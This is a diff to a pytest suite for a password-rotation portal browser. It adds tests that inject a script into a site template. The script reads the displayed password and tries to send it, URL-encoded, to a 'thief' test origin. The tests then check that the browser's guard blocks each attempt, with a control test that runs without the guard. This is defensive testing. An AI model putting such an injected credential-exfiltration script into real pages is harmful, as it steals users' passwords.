@@ -6,16 +6,23 @@ from __future__ import annotations
 
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator, Sequence
 from dataclasses import replace
+from pathlib import Path
+from unittest.mock import AsyncMock
 
 import pytest
 from fixtures_pages import Pages
+from fixtures_rotation import LOGIN, PASSWORD, open_scene
+from jinja2 import ChoiceLoader, DictLoader
 from releve.base.secret import Secret
 from releve.decision import events as ev
 from releve.portal import TALKATIVE
 from releve.portal.browser import PortalBrowser
 from releve.portal.errors import FieldTooShort, OriginRefused, PortalError, UnsafeForm
+from releve.school import World
+from releve.school.people import DEMO_ACCOUNT
+from releve.school.web import TEMPLATES, Skin
 
 here = pytest.mark.asyncio(loop_scope="module")
 
@@ -218,6 +225,61 @@ async def test_nothing_leaves_for_another_origin(
         await window.type_secret(window.page.locator("[data-is=it]"), Secret(WORD))
         await window.page.wait_for_timeout(250)
     assert [] == [each for each in thief.asked if "Saisie" in each]
+
+
+SUMMARY = "chorus/summary.html"
+AWAY = ("address", "form", "window")  # each takes the window elsewhere, if it can
+
+
+def taking_away(thief: Pages, names: Iterable[str]) -> Skin:
+    """The school, but for its summary: that tries all these while it shows the password."""
+    tries = "".join(
+        f"try {{ const u = `{thief.origin}/{name.replace(' ', '-')}?` + encodeURIComponent(v);"
+        f" {LEAKS[name]} }} catch {{}}\n"
+        for name in names
+    )
+    script = (
+        "<iframe></iframe><script>const v = document.querySelector('dd.password').innerText;\n"
+        f"{tries}</script>"
+    )
+    assert TEMPLATES.loader is not None
+    page, _, _ = TEMPLATES.loader.get_source(TEMPLATES, SUMMARY)
+    page, _, end = page.rpartition("{% endblock %}")  # what leads away ends the reading of a page
+    loader = DictLoader({SUMMARY: f"{page}{script}{{% endblock %}}{end}"})
+    return Skin(TEMPLATES.overlay(loader=ChoiceLoader([loader, TEMPLATES.loader])))
+
+
+@pytest.mark.parametrize(
+    ("names", "rejected"), [([n for n in LEAKS if n not in AWAY], 1), (AWAY, 0)], ids=("stay", "go")
+)
+async def test_nothing_leaves_while_the_new_password_is_shown(
+    tmp_path: Path, thief: Pages, names: Sequence[str], rejected: int
+) -> None:
+    """From the page's first byte until it is left, by a password that is refused too; and the
+    password is read and kept all the same.
+    """
+    thief.asked.clear()
+    world = World(password=PASSWORD, login=LOGIN, demo_account=DEMO_ACCOUNT)
+    world.faults.slash_in_first = rejected
+    with open_scene(tmp_path, world, taking_away(thief, names)) as scene:
+        ended = await scene.walk()
+        assert ("", 1 + rejected) == (ended.error, scene.resets()), ended.text
+        assert scene.three_places_agree()
+    assert [] == thief.asked
+
+
+async def test_that_page_does_reach_the_other_origin(
+    tmp_path: Path, thief: Pages, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Without the guard: the test before is not blind."""
+    thief.asked.clear()
+    monkeypatch.setattr(PortalBrowser, "hold", AsyncMock())
+    world = World(password=PASSWORD, login=LOGIN, demo_account=DEMO_ACCOUNT)
+    late = ("worker", "new socket", "socket of a frame")  # or noted nowhere by `Pages`
+    names = [name for name in LEAKS if name not in (*AWAY, *late)]
+    with open_scene(tmp_path, world, taking_away(thief, names)) as scene:
+        await scene.walk(until="mot-de-passe")
+    assert set(names) <= {each[1:].partition("?")[0].replace("-", " ") for each in thief.asked}
 
 
 @here
